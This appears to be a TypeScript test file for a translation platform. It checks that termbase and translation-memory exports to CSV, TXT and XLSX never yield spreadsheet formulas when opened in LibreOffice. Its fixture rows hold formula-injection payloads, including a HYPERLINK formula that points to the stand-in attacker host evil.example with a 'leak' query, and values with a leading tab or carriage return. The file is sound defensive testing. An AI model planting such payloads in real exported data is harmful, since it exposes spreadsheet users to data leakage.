/**
 * Issue 14, item 6: formula injection in CSV exports. Entries written by one user (a memory or a
 * termbase) must come out of every spreadsheet export as text, never as formulas, in the real
 * LibreOffice: the export is converted to a spreadsheet (`convertWithLibreOffice`) and its cells
 * read. CSV and TXT cells a spreadsheet would evaluate get a leading `'` (OWASP), XLSX cells are
 * strings; a CSV export imported again gives the same entries.
 */
import { buildTestGateway, type TestGateway } from '@mtp/gateway/testing';
import { convertWithLibreOffice } from '@mtp/platform';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

// Each conversion starts a fresh LibreOffice (seconds on a loaded machine).
const OFFICE_MS = 240_000;

/** What an attacker writes into a shared bank; the last two get a leading TAB / CR below. */
const ROWS = [
  { source: '=HYPERLINK("http://evil.example/?leak","click")', translated: '+1+1', note: '@SUM(A1)' },
  { source: '-2+3', translated: '=1+1', note: '-' },
  { source: '-', translated: 'e-mail', note: 'plain' },
  { source: '=1', translated: '=2', note: '' },
];

let gw: TestGateway;
let token: string;

type Flag = 0 | 1;

async function bankWithRows(flag: Flag, name: string): Promise<number> {
  const bank = await gw.call<{ bank_id: number }>('POST', 'tm_term_library/create', {
    token,
    body: { flag, name, src_lang: 'en-us', tgt_lang: 'zh-cn', system_or_individual: 0 },
  });
  expect(bank.code, bank.msg).toBe(20000);
  for (const row of ROWS) {
    const res = await gw.call('POST', 'tm_term/es_insert', {
      token,
      body: { flag, system_or_individual: 0, bank_id: bank.data.bank_id, ...row },
    });
    expect(res.code, res.msg).toBe(20000);
  }
  // Entries are trimmed when written through the API; a TAB or CR first can still come from
  // data written before that rule, so the writers must handle them too.
  await gw.db.query(`UPDATE tm_entries SET source = E'\\t=1', translated = E'\\r=2' WHERE bank_id = $1 AND source = '=1'`, [
    bank.data.bank_id,
  ]);
  return bank.data.bank_id;
}

async function exported(flag: Flag, bankId: number, format: string): Promise<Buffer> {
  const res = await gw.app.inject({
    url: `/api/v1.0/tm_term/es_export_all/0/${flag}?bank_id=${bankId}&format=${format}`,
    headers: { authorization: `Bearer ${token}` },
  });
  expect(res.statusCode).toBe(200);
  return res.rawPayload;
}

/** The cells LibreOffice made of a file, as flat ODF XML. */
async function inLibreOffice(bytes: Buffer, ext: string): Promise<string> {
  return (await convertWithLibreOffice(bytes, ext, 'fods')).toString('utf8');
}

const formulaCells = (fods: string) => fods.match(/<table:table-cell[^>]*table:formula="[^"]*"/g) ?? [];
const XML_ENTITIES: Record<string, string> = { '&apos;': "'", '&quot;': '"', '&lt;': '<', '&gt;': '>', '&amp;': '&' };
/** Each cell paragraph's text up to its first tab or line break. */
const texts = (fods: string) =>
  [...fods.matchAll(/<text:p>([^<]*)/g)].map((m) => m[1]!.replace(/&(apos|quot|lt|gt|amp);/g, (e) => XML_ENTITIES[e]!));

async function entriesOf(bankId: number) {
  const { rows } = await gw.db.query<{ source: string; translated: string; note: string }>(
    'SELECT source, translated, note FROM tm_entries WHERE bank_id = $1 ORDER BY entry_id',
    [bankId],
  );
  return rows;
}

async function importInto(flag: Flag, bankId: number, filename: string, bytes: Buffer) {
  const boundary = '----mtp-csv';
  const fields = { system_or_individual: 0, bank_id: bankId, src_lang: 'en-us', tgt_lang: 'zh-cn' };
  const head = Object.entries(fields)
    .map(([k, v]) => `--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`)
    .join('');
  const field = flag === 0 ? 'tm_file' : 'term_file';
  const res = await gw.app.inject({
    method: 'POST',
    url: `/api/v1.0/${flag === 0 ? 'tm/es_save_file' : 'term/upload_term_file'}`,
    headers: { authorization: `Bearer ${token}`, 'content-type': `multipart/form-data; boundary=${boundary}` },
    payload: Buffer.concat([
      Buffer.from(`${head}--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename="${filename}"\r\n\r\n`),
      bytes,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]),
  });
  return res.json() as { code: number; msg: string };
}

beforeAll(async () => {
  gw = await buildTestGateway();
  // System banks of the super administrator: no plan limits on how many banks a test makes.
  token = await gw.adminToken();
});
afterAll(async () => {
  await gw?.close();
});

describe('spreadsheet exports hold no formula', () => {
  it(
    'a termbase as CSV: no formula cell in LibreOffice, plain values as they were, the same entries imported again',
    async () => {
      const bankId = await bankWithRows(1, 'Formulas');
      const csv = await exported(1, bankId, 'csv');
      const fods = await inLibreOffice(csv, 'csv');
      expect(formulaCells(fods)).toEqual([]);
      expect(texts(fods)).toEqual(expect.arrayContaining(['-', 'e-mail', 'plain', `'=HYPERLINK("http://evil.example/?leak","click")`]));

      const copy = (
        await gw.call<{ bank_id: number }>('POST', 'tm_term_library/create', {
          token,
          body: { flag: 1, name: 'Copy', src_lang: 'en-us', tgt_lang: 'zh-cn', system_or_individual: 0 },
        })
      ).data.bank_id;
      expect(await importInto(1, copy, 'copy.csv', csv)).toMatchObject({ code: 20000 });
      // The leading quote is taken off again; a TAB or CR first is trimmed as every import does.
      const original = (await entriesOf(bankId)).map((e) => ({ source: e.source.trim(), translated: e.translated.trim(), note: e.note }));
      expect(await entriesOf(copy)).toEqual(original);
    },
    OFFICE_MS,
  );

  it(
    'a termbase as tab-separated TXT: no field a spreadsheet would evaluate, no formula cell',
    async () => {
      const bankId = await bankWithRows(1, 'Formulas TXT');
      const txt = await exported(1, bankId, 'txt');
      const fields = txt
        .toString('utf8')
        .split('\n')
        .filter(Boolean)
        .flatMap((line) => line.split('\t'));
      expect(fields.filter((f) => /^[=+\-@\r]/.test(f) && f !== '-')).toEqual([]);
      expect(fields).toEqual(expect.arrayContaining(['-', 'e-mail', `'=HYPERLINK("http://evil.example/?leak","click")`]));
      // LibreOffice opens tab-separated text as a spreadsheet under the .tsv name (its default
      // separators are used: the cells may not split at tabs, but none may be a formula).
      expect(formulaCells(await inLibreOffice(txt, 'tsv'))).toEqual([]);
    },
    OFFICE_MS,
  );

  it(
    'a termbase as XLSX: string cells only, no <f>, no formula cell',
    async () => {
      const bankId = await bankWithRows(1, 'Formulas XLSX');
      const xlsx = await exported(1, bankId, 'xlsx');
      const sheets = Object.entries(unzipSync(new Uint8Array(xlsx))).filter(([name]) => name.startsWith('xl/worksheets/'));
      expect(sheets.length).toBeGreaterThan(0);
      for (const [, xml] of sheets) expect(strFromU8(xml)).not.toMatch(/<f[ >]/);
      const fods = await inLibreOffice(xlsx, 'xlsx');
      expect(formulaCells(fods)).toEqual([]);
      expect(texts(fods)).toEqual(expect.arrayContaining(['=1+1', '-', 'e-mail']));
    },
    OFFICE_MS,
  );

  it(
    'a translation memory as CSV: no formula cell',
    async () => {
      const bankId = await bankWithRows(0, 'Formulas TM');
      const fods = await inLibreOffice(await exported(0, bankId, 'csv'), 'csv');
      expect(formulaCells(fods)).toEqual([]);
      expect(texts(fods)).toEqual(expect.arrayContaining(['-', 'e-mail']));
    },
    OFFICE_MS,
  );
});
